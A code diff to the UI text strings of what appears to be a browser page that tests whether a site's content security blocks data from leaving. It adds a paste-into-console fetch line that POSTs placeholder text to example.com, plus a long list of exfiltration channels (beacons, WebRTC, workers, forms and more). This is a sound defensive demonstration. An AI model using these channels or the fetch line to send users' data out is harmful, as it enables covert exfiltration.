@@ -1,9 +1,9 @@
-import { britishStyle } from '../../language.ts';
-import { describeSize, describeWhole, listOf } from '../amounts.ts';
-import { onFirstUse } from '../on-first-use.ts';
+import { locale } from '#language.ts';
+import { describeSize, describeWhole, listOf } from '#wording/amounts.ts';
+import { onFirstUse } from '#wording/on-first-use.ts';
 import { count } from './count.ts';
 
-const longDate = onFirstUse(() => new Intl.DateTimeFormat(britishStyle, { dateStyle: 'long' }));
+const longDate = onFirstUse(() => new Intl.DateTimeFormat(locale, { dateStyle: 'long' }));
 
 /** The page that has every way out try to send the beginning of a file away. */
 export const trialWords = {
@@ -23,6 +23,14 @@ export const trialWords = {
   tried: 'ways tried',
   refused: 'ways refused',
   refusedOrAbsent: 'ways refused or absent',
+  /** At the end: a line for the console of other sites. */
+  elsewhere: {
+    title: 'Now try this line on any other site',
+    how: 'Open the developer tools there (F12 in most browsers), choose “Console”, and paste it. It says whether the text was sent. On this site, it says “refused”.',
+    line: `await fetch('https://example.com/', { method: 'POST', mode: 'no-cors', body: 'my file' }).then(() => 'sent', () => 'refused');`,
+    label: 'Copy',
+    what: 'the line',
+  },
   save: 'Save as a picture',
   unsaved: 'The picture could not be made. Check that you are online, then try again.',
   /** On the picture of how it ended, which people show to others. */
@@ -69,3 +77,53 @@ export const requestWords = {
   /** What it may have carried away. */
   carried: { 'another-host': 'to another host', query: 'a query', body: 'a body', nothing: 'nothing' },
 };
+
+/** What is tried to send something away, at the start of a line. */
+export const wayTitles = {
+  fetch: 'fetch',
+  'fetch that outlives the page': 'fetch that outlives the page',
+  'fetch that waits until the page is gone': 'fetch that waits until the page is gone',
+  XMLHttpRequest: 'XMLHttpRequest',
+  beacon: 'Beacon',
+  WebSocket: 'WebSocket',
+  EventSource: 'EventSource',
+  WebTransport: 'WebTransport',
+  cache: 'Cache',
+  image: 'Image',
+  'image in a style': 'Image in a style',
+  'image in a drawing': 'Image in a drawing',
+  font: 'Font',
+  audio: 'Audio',
+  'poster of a video': 'Poster of a video',
+  stylesheet: 'Stylesheet',
+  script: 'Script',
+  'module import': 'Module import',
+  'audio worklet': 'Audio worklet',
+  prefetch: 'Prefetch',
+  preload: 'Preload',
+  'module preload': 'Module preload',
+  manifest: 'Manifest',
+  icon: 'Icon',
+  'looking a name up': 'Looking a name up',
+  'connecting ahead': 'Connecting ahead',
+  'speculation rules': 'Speculation rules',
+  frame: 'Frame',
+  'a frame’s own fetch': 'A frame’s own fetch',
+  object: 'Object',
+  embed: 'Embed',
+  ping: 'Ping',
+  'form in a new window': 'Form in a new window',
+  'inline worker': 'Inline worker',
+  worker: 'Worker',
+  'shared worker': 'Shared worker',
+  'service worker': 'Service worker',
+  'WebRTC, to look for a path': 'WebRTC, to look for a path',
+  'WebRTC, through a relay': 'WebRTC, through a relay',
+  'WebRTC, straight to a peer': 'WebRTC, straight to a peer',
+  download: 'Download',
+  navigation: 'Navigation',
+  'a new window': 'A new window',
+  'a page that refreshes itself': 'A page that refreshes itself',
+  form: 'Form',
+  'a form’s fields in an address': 'A form’s fields in an address',
+} as const;
